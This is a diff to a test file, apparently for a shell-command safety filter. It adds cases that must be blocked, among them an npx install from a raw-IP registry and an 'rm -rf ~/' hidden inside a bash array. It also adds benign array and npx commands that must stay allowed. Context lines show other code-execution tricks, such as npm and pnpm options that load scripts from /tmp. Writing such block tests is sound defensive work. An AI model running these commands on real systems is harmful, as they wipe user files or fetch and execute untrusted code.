@@ -267,6 +267,8 @@ def test_their_ordinary_uses_stay_allowed(cmd: str) -> None:
     ("npm test --script-shell=/tmp/.s", "wrapper-exec"),
     ("npm install --registry=http://203.0.113.9:4873/ left-pad", "download-exec"),
     ("pnpm i --node-options='--require /tmp/x.js'", "wrapper-exec"),
+    ("npx --registry=http://203.0.113.9/ create-app", "download-exec"),
+    ("args=(-rf ~/); rm \"${args[@]}\"", "destructive-rm"),
 ])
 def test_the_families_read_further(cmd: str, rule: str) -> None:
     assert_blocked(cmd, rule)
@@ -276,7 +278,8 @@ def test_the_families_read_further(cmd: str, rule: str) -> None:
     "printf 'all:\\n\\tgcc -o app main.c\\n' > Makefile", "make CC=clang CFLAGS=-O2", "make -j4 PREFIX=/usr/local install",
     "echo 'requests==2.32.3' >> requirements.txt", "echo '--index-url https://pypi.x.example/simple' > requirements.txt",
     "npm test --silent", "npm install --registry=https://npm.x.example/ x", "npm run build --if-present", "make V=1",
-    "printf 'test:\\n    pytest\\n' > justfile",
+    "printf 'test:\\n    pytest\\n' > justfile", "files=(a.txt b.txt); rm -f \"${files[@]}\"",
+    "opts=(-la); ls \"${opts[@]}\" src", "npx --yes create-vite@latest app",
 ])
 def test_their_ordinary_forms(cmd: str) -> None:
     assert_allowed(cmd)
